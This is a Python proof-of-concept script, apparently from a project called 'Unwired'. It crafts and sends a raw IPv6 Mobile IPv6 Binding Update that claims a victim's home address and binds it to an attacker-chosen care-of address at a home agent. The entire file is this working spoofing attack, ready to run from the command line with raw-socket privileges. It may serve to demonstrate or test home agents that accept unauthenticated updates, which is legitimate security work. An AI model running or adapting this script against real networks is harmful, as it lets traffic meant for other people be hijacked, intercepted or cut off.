#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
# Copyright (c) 2026 the Unwired authors
"""Says without any protection that somebody else's home address is here now.

demo_stranger.py CARE_OF HOME HOME_AGENT
"""

import ipaddress
import socket
import struct
import sys

DST_OPTIONS, MOBILITY, NOTHING = 60, 135, 59
BINDING_UPDATE, ACKNOWLEDGE_HOME = 5, 0xc000


def checksum(src, dst, message):
    data = src + dst + struct.pack("!II", len(message), MOBILITY) + message
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def binding_update(care_of, home, agent):
    """RFC 6275 6.1.7 behind a Home Address option, padded by PadN options."""
    fields = struct.pack("!HHH", 40000, ACKNOWLEDGE_HOME, 15) + b"\1\2\0\0"
    head = struct.pack("!BBBB", NOTHING, 1, BINDING_UPDATE, 0)
    message = head + struct.pack("!H", checksum(home, agent, head + b"\0\0" + fields)) + fields
    options = bytes([MOBILITY, 2, 1, 2, 0, 0, 201, 16]) + home
    return struct.pack("!IHBB", 6 << 28, len(options) + len(message), DST_OPTIONS,
                       64) + care_of + agent + options + message


def main():
    care_of, home, agent = (ipaddress.IPv6Address(a).packed for a in sys.argv[1:])
    raw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.sendto(binding_update(care_of, home, agent), (sys.argv[3], 0))


if __name__ == "__main__":
    main()
